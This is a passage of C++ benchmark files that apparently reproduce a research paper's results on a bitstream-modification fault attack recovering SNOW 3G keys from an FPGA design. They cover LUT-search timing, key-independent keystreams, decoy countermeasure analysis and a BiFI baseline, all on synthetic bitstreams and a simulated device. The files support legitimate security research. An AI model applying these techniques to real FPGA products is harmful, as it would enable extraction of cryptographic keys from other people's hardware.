  for (auto& b : bytes) b = static_cast<u8>(rng.next_u64());
  const logic::TruthTable6 f = logic::table2_candidate("f2").function;
  for (unsigned i = 0; i < planted; ++i) {
    const size_t l = (i + 1) * (size / (planted + 2));
    bitstream::write_lut_init(bytes, l, 404, bitstream::device_chunk_orders()[i % 2],
                              f.permuted(logic::all_permutations6()[i * 31 % 720]).bits());
  }
  return bytes;
}

void BM_FindLutOptimized(benchmark::State& state) {
  const size_t mb = static_cast<size_t>(state.range(0));
  const auto bytes = synthetic_bitstream(mb * 1000 * 1000, 32);
  const logic::TruthTable6 f = logic::table2_candidate("f2").function;
  FindLutOptions opt;
  opt.offset_d = 404;
  size_t found = 0;
  for (auto _ : state) {
    const auto matches = find_lut(bytes, f, opt);
    found = matches.size();
    benchmark::DoNotOptimize(matches);
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(bytes.size()));
  state.counters["matches"] = static_cast<double>(found);
}
BENCHMARK(BM_FindLutOptimized)->Arg(1)->Arg(5)->Arg(10)->Unit(benchmark::kMillisecond);

void BM_FindLutNaiveAlgorithm1(benchmark::State& state) {
  const size_t kb = static_cast<size_t>(state.range(0));
  const auto bytes = synthetic_bitstream(kb * 1000, 4);
  const logic::TruthTable6 f = logic::table2_candidate("f2").function;
  FindLutOptions opt;
  opt.offset_d = 404;
  for (auto _ : state) {
    const auto matches = find_lut_naive(bytes, f, opt);
    benchmark::DoNotOptimize(matches);
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(bytes.size()));
}
BENCHMARK(BM_FindLutNaiveAlgorithm1)->Arg(10)->Arg(50)->Unit(benchmark::kMillisecond);

/// One timed measurement per bitstream size, written to
/// BENCH_findlut_scaling.json so the scan's performance trajectory is
/// tracked across PRs alongside the google-benchmark numbers.
void write_bench_json() {
  const logic::TruthTable6 f = logic::table2_candidate("f2").function;
  FindLutOptions opt;
  opt.offset_d = 404;
  JsonWriter w;
  w.begin_object();
  w.field("bench", "findlut_scaling");
  w.key("optimized").begin_array();
  for (const size_t mb : {1, 5, 10}) {
    const auto bytes = synthetic_bitstream(mb * 1000 * 1000, 32);
    const auto start = std::chrono::steady_clock::now();
    const auto matches = find_lut(bytes, f, opt);
    const double wall =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    w.begin_object();
    w.field("megabytes", mb).field("wall_seconds", wall).field("matches", matches.size());
    w.end_object();
    std::printf("FINDLUT %2zu MB: %.3fs, %zu matches (paper claim: < 4 s at 10 MB)\n", mb, wall,
                matches.size());
  }
  w.end_array();
  w.end_object();
  if (std::FILE* file = std::fopen("BENCH_findlut_scaling.json", "w")) {
    std::fwrite(w.str().data(), 1, w.str().size(), file);
    std::fclose(file);
    std::printf("wrote BENCH_findlut_scaling.json\n\n");
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::printf("=== Section VI-B claim: FINDLUT < 4 s on a < 10 MB bitstream (k = 6) ===\n");
  std::printf("BM_FindLutOptimized/10 below is the 10 MB measurement to compare.\n\n");
  write_bench_json();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
