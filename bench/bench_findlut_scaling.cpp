// Section VI-B performance claim: "For bitstreams of size less than 10 MB
// and k = 6, our tool takes less than 4 sec to execute for a given f."
//
// Benchmarks three scan implementations:
//   * the literal Algorithm 1 transcription (find_lut_naive) on small
//     inputs — the exponential-constant version everything else replaces;
//   * the per-candidate hash scan (scan_family_legacy): one bitstream pass
//     per candidate function;
//   * the one-pass multi-pattern engine (scan_family over a shared
//     PatternIndex): one bitstream pass for the whole family.
//
// The family sweep crosses candidate count (1/4/16/64 — padding the real
// attack family with deterministic decoy functions, the countermeasure's
// at-scale workload) with synthetic bitstream size (64 KiB – 4 MiB) and
// writes per-config rows to BENCH_findlut_scaling.json;
// scripts/check_bench_regression.py compares them against the committed
// baseline.  `--smoke` runs a tiny config and exits nonzero if engine and
// legacy match lists diverge (wired into ctest under the `bench` label).
#include <benchmark/benchmark.h>

#include <chrono>
#include <cstdio>
#include <cstring>

#include <string>

#include "attack/findlut.h"
#include "attack/scan.h"
#include "attack/scan_engine.h"
#include "bitstream/patcher.h"
#include "common/json.h"
#include "common/rng.h"
#include "obs/metrics.h"
#include "obs/obs.h"
#include "obs/trace.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

constexpr size_t kOffsetD = 404;

std::vector<u8> synthetic_bitstream(size_t size, unsigned planted) {
  Rng rng(42);
  std::vector<u8> bytes(size);
  for (auto& b : bytes) b = static_cast<u8>(rng.next_u64());
  const logic::TruthTable6 f = logic::table2_candidate("f2").function;
  for (unsigned i = 0; i < planted; ++i) {
    const size_t l = (i + 1) * (size / (planted + 2));
    bitstream::write_lut_init(bytes, l, kOffsetD, bitstream::device_chunk_orders()[i % 2],
                              f.permuted(logic::all_permutations6()[i * 31 % 720]).bits());
  }
  return bytes;
}

/// The real attack family padded with deterministic random decoy functions
/// up to `count` candidates — the shape of a countermeasure decoy audit.
std::vector<logic::Candidate> candidate_family(size_t count) {
  std::vector<logic::Candidate> family;
  for (const auto& c : attack_family()) {
    if (family.size() == count) return family;
    family.push_back(c);
  }
  Rng rng(7);
  while (family.size() < count) {
    logic::Candidate decoy;
    decoy.name = "decoy" + std::to_string(family.size());
    decoy.function = logic::TruthTable6(rng.next_u64());
    family.push_back(std::move(decoy));
  }
  return family;
}

/// Plants one instance of every family member so the scans have real work.
std::vector<u8> family_bitstream(size_t size, const std::vector<logic::Candidate>& family) {
  std::vector<u8> bytes = synthetic_bitstream(size, 0);
  for (size_t i = 0; i < family.size(); ++i) {
    const size_t l = (i + 1) * (size / (family.size() + 2));
    bitstream::write_lut_init(
        bytes, l, kOffsetD, bitstream::device_chunk_orders()[i % 2],
        family[i].function.permuted(logic::all_permutations6()[i * 131 % 720]).bits());
  }
  return bytes;
}

bool same_matches(const std::vector<FamilyCount>& a, const std::vector<FamilyCount>& b) {
  if (a.size() != b.size()) return false;
  for (size_t c = 0; c < a.size(); ++c) {
    if (a[c].matches != b[c].matches) return false;
  }
  return true;
}

struct SweepRow {
  size_t candidates = 0;
  size_t kib = 0;
  double engine_seconds = 0;       // warm: shared index already compiled
  double engine_cold_seconds = 0;  // first scan, index compile included
  double index_build_seconds = 0;  // the compile alone (cold minus the scan)
  double legacy_seconds = 0;       // per-candidate hash scan
  size_t matches = 0;
  bool identical = false;
  double speedup() const {
    return engine_seconds > 0 ? legacy_seconds / engine_seconds : 0;
  }
};

SweepRow run_config(size_t candidates, size_t kib) {
  const auto family = candidate_family(candidates);
  const auto bytes = family_bitstream(kib * 1024, family);
  FindLutOptions opt;
  opt.offset_d = kOffsetD;

  SweepRow row;
  row.candidates = candidates;
  row.kib = kib;

  auto timed = [](auto&& fn, double& seconds) {
    const auto start = std::chrono::steady_clock::now();
    auto result = fn();
    seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    return result;
  };
  // The compile alone (720 permutations x candidates, xi-mapped, bucketed):
  // the cost a campaign pays exactly once per family, however many trials
  // then share the index.
  std::vector<logic::TruthTable6> functions;
  for (const auto& c : family) functions.push_back(c.function);
  pattern_index_cache_clear();
  timed([&] { return shared_pattern_index(functions, opt); }, row.index_build_seconds);
  pattern_index_cache_clear();
  const auto cold = timed([&] { return scan_family(bytes, family, opt); },
                          row.engine_cold_seconds);
  const auto warm = timed([&] { return scan_family(bytes, family, opt); },
                          row.engine_seconds);
  const auto legacy = timed([&] { return scan_family_legacy(bytes, family, opt); },
                            row.legacy_seconds);
  row.identical = same_matches(cold, legacy) && same_matches(warm, legacy);
  for (const auto& fc : legacy) row.matches += fc.count();
  return row;
}

void print_row(const SweepRow& r) {
  std::printf("  %3zu candidates x %4zu KiB: engine %8.4fs (cold %8.4fs, compile %8.4fs)  "
              "legacy %8.4fs  %5.1fx  %3zu matches  %s\n",
              r.candidates, r.kib, r.engine_seconds, r.engine_cold_seconds,
              r.index_build_seconds, r.legacy_seconds, r.speedup(), r.matches,
              r.identical ? "identical" : "DIVERGED");
}

/// One timed measurement per configuration, written to
/// BENCH_findlut_scaling.json so the scan's performance trajectory is
/// tracked across PRs alongside the google-benchmark numbers.
bool write_bench_json() {
  JsonWriter w;
  w.begin_object();
  w.field("bench", "findlut_scaling");

  // Single-function rows: the paper's own < 4 s at 10 MB claim.
  const logic::TruthTable6 f = logic::table2_candidate("f2").function;
  FindLutOptions opt;
  opt.offset_d = kOffsetD;
  w.key("single_function").begin_array();
  for (const size_t mb : {1, 5, 10}) {
    const auto bytes = synthetic_bitstream(mb * 1000 * 1000, 32);
    const auto start = std::chrono::steady_clock::now();
    const auto matches = find_lut(bytes, f, opt);
    const double wall =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    w.begin_object();
    w.field("megabytes", mb).field("wall_seconds", wall).field("matches", matches.size());
    w.end_object();
    std::printf("FINDLUT %2zu MB: %.3fs, %zu matches (paper claim: < 4 s at 10 MB)\n", mb, wall,
                matches.size());
  }
  w.end_array();

  // Family sweep: candidate count x bitstream size, engine vs legacy.
  std::printf("\nfamily sweep (one-pass engine vs per-candidate scan):\n");
  bool all_identical = true;
  w.key("family_sweep").begin_array();
  for (const size_t candidates : {1, 4, 16, 64}) {
    for (const size_t kib : {64, 512, 4096}) {
      const SweepRow r = run_config(candidates, kib);
      print_row(r);
      all_identical = all_identical && r.identical;
      w.begin_object();
      w.field("candidates", r.candidates)
          .field("kib", r.kib)
          .field("engine_seconds", r.engine_seconds)
          .field("engine_cold_seconds", r.engine_cold_seconds)
          .field("index_build_seconds", r.index_build_seconds)
          .field("legacy_seconds", r.legacy_seconds)
          .field("speedup", r.speedup())
          .field("matches", r.matches)
          .field("identical", r.identical);
      w.end_object();
    }
  }
  w.end_array();
  w.end_object();
  if (std::FILE* file = std::fopen("BENCH_findlut_scaling.json", "w")) {
    std::fwrite(w.str().data(), 1, w.str().size(), file);
    std::fclose(file);
    std::printf("wrote BENCH_findlut_scaling.json\n\n");
  }
  return all_identical;
}

/// Tiny configs only — the ctest smoke entry (label: bench).  Exit status
/// reflects engine/legacy match-list identity.
bool run_smoke() {
  std::printf("=== findlut scan-engine smoke (tiny configs) ===\n");
  bool ok = true;
  for (const size_t candidates : {1, 4}) {
    const SweepRow r = run_config(candidates, 64);
    print_row(r);
    ok = ok && r.identical && r.matches >= candidates;
  }
  std::printf(ok ? "smoke ok\n" : "smoke FAILED\n");
  return ok;
}

void BM_FindLutOptimized(benchmark::State& state) {
  const size_t mb = static_cast<size_t>(state.range(0));
  const auto bytes = synthetic_bitstream(mb * 1000 * 1000, 32);
  const logic::TruthTable6 f = logic::table2_candidate("f2").function;
  FindLutOptions opt;
  opt.offset_d = kOffsetD;
  size_t found = 0;
  for (auto _ : state) {
    const auto matches = find_lut(bytes, f, opt);
    found = matches.size();
    benchmark::DoNotOptimize(matches);
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(bytes.size()));
  state.counters["matches"] = static_cast<double>(found);
}
BENCHMARK(BM_FindLutOptimized)->Arg(1)->Arg(5)->Arg(10)->Unit(benchmark::kMillisecond);

void BM_FindLutNaiveAlgorithm1(benchmark::State& state) {
  const size_t kb = static_cast<size_t>(state.range(0));
  const auto bytes = synthetic_bitstream(kb * 1000, 4);
  const logic::TruthTable6 f = logic::table2_candidate("f2").function;
  FindLutOptions opt;
  opt.offset_d = kOffsetD;
  for (auto _ : state) {
    const auto matches = find_lut_naive(bytes, f, opt);
    benchmark::DoNotOptimize(matches);
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(bytes.size()));
}
BENCHMARK(BM_FindLutNaiveAlgorithm1)->Arg(10)->Arg(50)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  // Strip the obs output flags before google/benchmark parses argv.
  std::string trace_out;
  std::string metrics_out;
  int kept = 1;
  for (int i = 1; i < argc; ++i) {
    const bool has_next = i + 1 < argc;
    if (std::strcmp(argv[i], "--trace-out") == 0 && has_next) {
      trace_out = argv[++i];
    } else if (std::strcmp(argv[i], "--metrics-out") == 0 && has_next) {
      metrics_out = argv[++i];
    } else {
      argv[kept++] = argv[i];
    }
  }
  argc = kept;
  int obs_mode = static_cast<int>(obs::mode());
  if (!trace_out.empty()) obs_mode |= static_cast<int>(obs::Mode::kTrace);
  if (!metrics_out.empty()) obs_mode |= static_cast<int>(obs::Mode::kMetrics);
  obs::set_mode(static_cast<obs::Mode>(obs_mode));

  int status;
  if (argc > 1 && std::strcmp(argv[1], "--smoke") == 0) {
    status = run_smoke() ? 0 : 1;
  } else {
    std::printf("=== Section VI-B claim: FINDLUT < 4 s on a < 10 MB bitstream (k = 6) ===\n");
    std::printf("BM_FindLutOptimized/10 below is the 10 MB measurement to compare.\n\n");
    const bool identical = write_bench_json();
    benchmark::Initialize(&argc, argv);
    benchmark::RunSpecifiedBenchmarks();
    status = identical ? 0 : 1;
  }

  if (!trace_out.empty() && !obs::Tracer::global().write(trace_out)) {
    std::fprintf(stderr, "cannot write %s\n", trace_out.c_str());
    status = 1;
  }
  if (!metrics_out.empty()) {
    const std::string snapshot = obs::MetricsRegistry::global().snapshot().to_json();
    std::FILE* f = std::fopen(metrics_out.c_str(), "w");
    if (f == nullptr) {
      std::fprintf(stderr, "cannot write %s\n", metrics_out.c_str());
      status = 1;
    } else {
      std::fwrite(snapshot.data(), 1, snapshot.size(), f);
      std::fclose(f);
    }
  }
  return status;
}
