// Section VII-A timing claim: the unprotected design's critical path is the
// R1 -> R2 BRAM S-box lookup (paper: 6.313 ns); in the protected design the
// MUL_alpha -> s15 feedback becomes critical and slower (paper: 7.514 ns).
//
// Our delay model is calibrated, not Vivado's, so only the *shape* carries
// over: which path is critical and the relative slowdown.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "mapper/mapper.h"
#include "mapper/sta.h"
#include "netlist/snow3g_design.h"

namespace {

using namespace sbm;
using namespace sbm::mapper;

void print_sta_reproduction() {
  auto plain = netlist::build_snow3g_design();
  auto prot = netlist::build_protected_snow3g_design();
  const LutNetwork plain_mapped = map_network(plain.net);
  const LutNetwork prot_mapped = map_network(prot.net);
  const StaResult a = run_sta(plain.net, plain_mapped);
  const StaResult b = run_sta(prot.net, prot_mapped);

  std::printf("=== Section VII-A: critical-path impact of the countermeasure ===\n");
  std::printf("  unprotected: %.3f ns  %s -> %s  (paper: 6.313 ns, R1 -> R2 via BRAM)\n",
              a.critical_delay_ns, a.critical.start.c_str(), a.critical.end.c_str());
  std::printf("  protected  : %.3f ns  %s -> %s  (paper: 7.514 ns, MUL_alpha -> s15)\n",
              b.critical_delay_ns, b.critical.start.c_str(), b.critical.end.c_str());
  std::printf("  slowdown   : %.1f%%  (paper: %.1f%%)\n\n",
              100.0 * (b.critical_delay_ns / a.critical_delay_ns - 1.0),
              100.0 * (7.514 / 6.313 - 1.0));
  std::printf("  ten slowest protected endpoints:\n");
  for (const auto& p : b.slowest) {
    std::printf("    %.3f ns  %-14s -> %-14s (%zu LUT levels)\n", p.delay_ns, p.start.c_str(),
                p.end.c_str(), p.logic_levels);
  }
  std::printf("\n");
}

void BM_MapUnprotected(benchmark::State& state) {
  auto design = netlist::build_snow3g_design();
  for (auto _ : state) {
    auto mapped = map_network(design.net);
    benchmark::DoNotOptimize(mapped);
  }
}
BENCHMARK(BM_MapUnprotected)->Unit(benchmark::kMillisecond);

void BM_StaAnalysis(benchmark::State& state) {
  auto design = netlist::build_snow3g_design();
  const LutNetwork mapped = map_network(design.net);
  for (auto _ : state) {
    auto sta = run_sta(design.net, mapped);
    benchmark::DoNotOptimize(sta);
  }
}
BENCHMARK(BM_StaAnalysis)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_sta_reproduction();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
