// Section VI-D claim: key independence reduces the identification of the
// XOR input pairs in the 32 LUT1s from 3^32 exhaustive bitstream trials to
// TWO keystream computations.
//
// We measure the cost of one device reconfiguration + keystream run and
// extrapolate the exhaustive alternative.
#include <benchmark/benchmark.h>

#include <cmath>
#include <chrono>
#include <cstdio>

#include "attack/oracle.h"
#include "fpga/system.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

const fpga::System& system_instance() {
  static const fpga::System sys = fpga::build_system();
  return sys;
}

void print_claim() {
  const fpga::System& sys = system_instance();
  DeviceOracle oracle(sys, {1, 2, 3, 4});
  const auto t0 = std::chrono::steady_clock::now();
  constexpr int kRuns = 20;
  for (int i = 0; i < kRuns; ++i) (void)oracle.run(sys.golden.bytes, 16);
  const auto t1 = std::chrono::steady_clock::now();
  const double per_run =
      std::chrono::duration<double>(t1 - t0).count() / static_cast<double>(kRuns);
  const double exhaustive_years = std::pow(3.0, 32) * per_run / (3600.0 * 24 * 365);
  std::printf("=== Section VI-D: key-independent exploration ===\n");
  std::printf("  one reconfiguration + 16-word keystream run: %.3f ms (simulated device)\n",
              per_run * 1e3);
  std::printf("  exhaustive pair search: 3^32 = %.3g runs ~ %.3g years at that rate\n",
              std::pow(3.0, 32), exhaustive_years);
  std::printf("  key-independent method: 2 runs = %.3f ms\n", 2 * per_run * 1e3);
  std::printf("  speedup: %.3g x\n\n", std::pow(3.0, 32) / 2.0);
}

void BM_OracleRun16Words(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  DeviceOracle oracle(sys, {1, 2, 3, 4});
  for (auto _ : state) {
    auto z = oracle.run(sys.golden.bytes, 16);
    benchmark::DoNotOptimize(z);
  }
}
BENCHMARK(BM_OracleRun16Words)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_claim();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
