// Table VI — candidates in the protected bitstream, plus the Section VII-B
// half-table search (481 unconstrained / 203 frame-constrained hits in the
// paper) and the Section VII-C complexity bound C(171, 32) ~ 2^115.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "attack/countermeasure.h"
#include "attack/scan.h"
#include "fpga/system.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

const fpga::System& protected_system() {
  static const fpga::System sys = [] {
    fpga::SystemOptions opt;
    opt.protected_variant = true;
    return fpga::build_system(opt);
  }();
  return sys;
}

void print_table6_reproduction() {
  const fpga::System& sys = protected_system();
  // Paper Table VI n column for f1..f21.
  const int paper_n[21] = {20, 48, 28, 5, 0, 8, 17, 0, 0, 0, 0,
                           0,  0,  0,  0, 0, 0, 0,  0, 0, 0};
  std::printf("=== Table VI: candidates in the protected bitstream ===\n");
  std::printf("%-6s %-36s %9s %9s\n", "cand", "function", "paper n", "ours n");
  const auto counts = scan_family(sys.golden.bytes, logic::table2_family());
  size_t feedback_total = 0;
  for (size_t i = 0; i < counts.size(); ++i) {
    std::printf("%-6s %-36s %9d %9zu\n", counts[i].candidate.name.c_str(),
                counts[i].candidate.formula.c_str(), paper_n[i], counts[i].count());
    if (counts[i].candidate.path == logic::TargetPath::kFeedback) {
      feedback_total += counts[i].count();
    }
  }
  std::printf("feedback-path candidates total: %zu (paper: 0 — \"not useful\")\n\n",
              feedback_total);

  // Section VII-B: 2-input XOR in one half of the truth table.
  const auto all_hits = find_xor2_halves(sys.golden.bytes);
  const size_t span = sys.golden.bytes.size();
  const auto constrained = find_xor2_halves(sys.golden.bytes, {}, span / 3, 2 * span / 3);
  std::printf("XOR2-in-one-half search:\n");
  std::printf("  unconstrained  : %4zu hits over %zu byte positions (paper: 481 over "
              "3825888)\n",
              all_hits.size(), span);
  std::printf("  frame-constrained middle third: %4zu hits (paper: 203 over 200000)\n\n",
              constrained.size());

  // Section VII-C complexity.
  const unsigned n = static_cast<unsigned>(all_hits.size());
  const unsigned prunable = 32;  // z-path XORs, removable as in Section VI-C
  std::printf("complexity analysis:\n");
  std::printf("  candidates after pruning the z-path: %u\n", n - prunable);
  std::printf("  exhaustive search: log2 C(%u, 32) = %.1f bits (paper: C(171,32) ~ 2^115)\n",
              n - prunable, log2_binomial(n - prunable, 32));
  std::printf("  Lemma 1 bound for m=32, r=160: 2^%.1f\n", log2_lemma_bound(32, 160));
  std::printf("  minimum decoy ratio x for 2^128: %.3f (paper: 16/e - 1 ~ 4.9)\n\n",
              min_decoy_ratio(32, 128.0));
}

void BM_Xor2HalfSearch(benchmark::State& state) {
  const fpga::System& sys = protected_system();
  for (auto _ : state) {
    auto hits = find_xor2_halves(sys.golden.bytes);
    benchmark::DoNotOptimize(hits);
  }
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) *
                          static_cast<int64_t>(sys.golden.bytes.size()));
}
BENCHMARK(BM_Xor2HalfSearch)->Unit(benchmark::kMillisecond);

void BM_ProtectedFamilyScan(benchmark::State& state) {
  const fpga::System& sys = protected_system();
  for (auto _ : state) {
    auto counts = scan_family(sys.golden.bytes, logic::table2_family());
    benchmark::DoNotOptimize(counts);
  }
}
BENCHMARK(BM_ProtectedFamilyScan)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_table6_reproduction();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
