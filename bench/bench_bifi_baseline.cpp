// Baseline comparison — untargeted BiFI-style fault injection [23] vs the
// paper's targeted bitstream modification attack.
//
// Previous work weakens ciphers by blind rule-based LUT manipulation; the
// paper argues that SNOW 3G needs a *targeted* multi-LUT fault (the FSM
// word is 32 bits wide), which is why FINDLUT + key-independent exploration
// matter.  This bench runs a bounded BiFI campaign and reports that no
// single-LUT rule recovers the key, then contrasts the reconfiguration
// budget with the targeted pipeline's.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "attack/bifi.h"
#include "attack/pipeline.h"
#include "fpga/system.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

constexpr snow3g::Iv kIv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};

const fpga::System& system_instance() {
  static const fpga::System sys = fpga::build_system();
  return sys;
}

void print_baseline_comparison() {
  const fpga::System& sys = system_instance();

  std::printf("=== Baseline: untargeted BiFI [23] vs the targeted attack (Section VI) ===\n");
  DeviceOracle bifi_oracle(sys, kIv);
  BifiOptions bopt;
  bopt.max_configurations = 6000;  // bounded lab campaign
  const BifiResult bifi = run_bifi(bifi_oracle, sys.golden.bytes, bopt);
  std::printf("BiFI campaign (%zu configurations, %zu keystream-changing faults, %zu "
              "rejected):\n",
              bifi.configurations, bifi.interesting, bifi.rejected);
  std::printf("  key recovered: %s\n",
              bifi.secrets.has_value() ? "YES (unexpected!)" : "no — single-LUT faults cannot "
                                                               "cut the 32-bit FSM word");

  DeviceOracle targeted_oracle(sys, kIv);
  PipelineConfig cfg;
  cfg.iv = kIv;
  Attack attack(targeted_oracle, sys.golden.bytes, cfg);
  const AttackResult res = attack.execute();
  std::printf("targeted attack: success=%s in %zu configurations\n",
              res.success ? "yes" : "no", res.oracle_runs);
  std::printf("  per phase:");
  for (const auto& [phase, runs] : res.phase_runs) std::printf(" %s=%zu", phase.c_str(), runs);
  std::printf("\n  key: %s\n\n", res.secrets.key == sys.options.key ? "recovered correctly"
                                                                    : "NOT recovered");
}

void BM_BifiCampaign1000(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  for (auto _ : state) {
    DeviceOracle oracle(sys, kIv);
    BifiOptions opt;
    opt.max_configurations = 1000;
    auto res = run_bifi(oracle, sys.golden.bytes, opt);
    benchmark::DoNotOptimize(res);
  }
}
BENCHMARK(BM_BifiCampaign1000)->Unit(benchmark::kMillisecond)->Iterations(1);

}  // namespace

int main(int argc, char** argv) {
  print_baseline_comparison();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
