// Table III — the key-independent keystream (FSM output stuck to 0 during
// initialization, LFSR initialized to the all-0 state).
//
// This table is exactly reproducible: both the software model and the
// bitstream-faulted device must emit the paper's sixteen words for ANY
// key/IV.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "common/hex.h"
#include "common/rng.h"
#include "snow3g/snow3g.h"

namespace {

using namespace sbm;
using namespace sbm::snow3g;

constexpr const char* kPaperTable3[16] = {
    "a1fb4788", "e4382f8e", "3b72471c", "33ebb59a", "32ac43c7", "5eebfd82",
    "3a325fd4", "1e1d7001", "b7f15767", "3282c5b0", "103da78f", "e42761e4",
    "c6ded1bb", "089fa36c", "01c7c690", "bf921256"};

void print_table3_reproduction() {
  std::printf("=== Table III: key-independent keystream (beta + alpha1 faults) ===\n");
  std::printf("%3s %10s %10s\n", "t", "paper", "measured");
  Rng rng(0xbeef);
  const Key k = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  const Iv iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  Snow3g cipher(k, iv, FaultConfig::key_independent());
  bool all_ok = true;
  for (int t = 0; t < 16; ++t) {
    const std::string z = hex32(cipher.next());
    const bool ok = z == kPaperTable3[t];
    all_ok = all_ok && ok;
    std::printf("%3d %10s %10s %s\n", t + 1, kPaperTable3[t], z.c_str(),
                ok ? "" : " MISMATCH");
  }
  std::printf("  (key/IV drawn at random — the sequence must not depend on them)\n");
  std::printf("overall: %s\n\n", all_ok ? "REPRODUCED EXACTLY" : "MISMATCH");
}

void BM_KeyIndependentKeystream16(benchmark::State& state) {
  for (auto _ : state) {
    Snow3g cipher({}, {}, FaultConfig::key_independent());
    auto z = cipher.keystream(16);
    benchmark::DoNotOptimize(z);
  }
}
BENCHMARK(BM_KeyIndependentKeystream16);

void BM_NormalKeystream16(benchmark::State& state) {
  const Key k = {0x2bd6459f, 0x82c5b300, 0x952c4910, 0x4881ff48};
  const Iv iv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};
  for (auto _ : state) {
    Snow3g cipher(k, iv);
    auto z = cipher.keystream(16);
    benchmark::DoNotOptimize(z);
  }
}
BENCHMARK(BM_NormalKeystream16);

}  // namespace

int main(int argc, char** argv) {
  print_table3_reproduction();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
