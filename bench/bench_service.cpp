// Campaign-service throughput and latency: an in-process daemon (service +
// poll-reactor server over a unix socket) driven by a fleet of client
// threads submitting synthetic jobs across multiple tenants.
//
// Two measurements, written to BENCH_service.json and gated by
// scripts/check_bench_regression.py against the committed baseline:
//
//   sustained — C clients x J jobs each (T tenants): sustained jobs/s from
//     submit to terminal state, submit/e2e latency percentiles, and the
//     lost/duplicated-job audit (both must be zero);
//   roundtrip — single-connection status round-trips against a finished
//     job: the protocol + reactor floor, req/s and percentiles.
//
// Synthetic jobs run the real orchestration, scheduling, checkpoint and
// job-store path — only the per-trial attack is a deterministic stand-in —
// so this bench moves when the daemon's machinery regresses, not when the
// attack pipeline does (bench_attack_e2e owns that).
//
// --smoke shrinks the fleet for the unconditional ctest entry.
#include <benchmark/benchmark.h>

#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "common/json.h"
#include "service/client.h"
#include "service/server.h"
#include "service/service.h"

namespace {

using namespace sbm;
using Clock = std::chrono::steady_clock;

bool g_smoke = false;

struct Daemon {
  service::CampaignService service;
  service::SocketServer server;

  Daemon(const std::string& store_dir, const std::string& sock, size_t workers)
      : service([&] {
          service::ServiceOptions opt;
          opt.store_dir = store_dir;
          opt.workers = workers;
          opt.pool_threads = 1;
          opt.limits.total_capacity = 4096;
          opt.limits.per_tenant_capacity = 2048;
          return opt;
        }()),
        server(service, [&] {
          service::ServerOptions opt;
          opt.unix_path = sock;
          return opt;
        }()) {
    std::string error;
    if (!server.start(&error)) {
      std::fprintf(stderr, "FATAL: server start failed: %s\n", error.c_str());
      std::exit(1);
    }
  }

  ~Daemon() {
    server.stop();
    service.stop_hard();
  }
};

double percentile(std::vector<double> v, double p) {
  if (v.empty()) return 0;
  std::sort(v.begin(), v.end());
  const size_t idx = std::min(v.size() - 1, static_cast<size_t>(p * (v.size() - 1) + 0.5));
  return v[idx];
}

std::string scratch_dir(const char* leaf) {
  const char* base = std::getenv("TMPDIR");
  std::string dir = (base != nullptr && *base != '\0') ? base : "/tmp";
  dir += "/";
  dir += leaf;
  dir += "-";
  dir += std::to_string(static_cast<unsigned long>(::getpid()));
  return dir;
}

struct SustainedResult {
  double wall_seconds = 0;
  double jobs_per_s = 0;
  size_t accepted = 0;
  size_t completed = 0;
  size_t lost = 0;
  size_t duplicates = 0;
  size_t rejects_retried = 0;
  double submit_p50_ms = 0;
  double submit_p99_ms = 0;
  double e2e_p50_ms = 0;
  double e2e_p99_ms = 0;
};

SustainedResult run_sustained(const std::string& sock, size_t clients, size_t tenants,
                              size_t jobs_per_client, size_t trials) {
  struct PerClient {
    std::vector<std::string> ids;
    std::vector<double> submit_ms;
    std::vector<double> e2e_ms;
    size_t rejects = 0;
    size_t done = 0;
  };
  std::vector<PerClient> per(clients);
  std::vector<std::thread> threads;
  threads.reserve(clients);

  const auto t0 = Clock::now();
  for (size_t c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      PerClient& r = per[c];
      service::Client client;
      if (!client.connect_unix(sock)) return;
      service::JobSpec spec;
      spec.tenant = "tenant-" + std::to_string(c % tenants);
      spec.mode = service::JobMode::kSynthetic;
      spec.options.trials = trials;
      for (size_t j = 0; j < jobs_per_client; ++j) {
        spec.options.seed = 0xbe9c ^ (c * 1000003ull + j);
        for (int attempt = 0; attempt < 1000; ++attempt) {
          int code = 0;
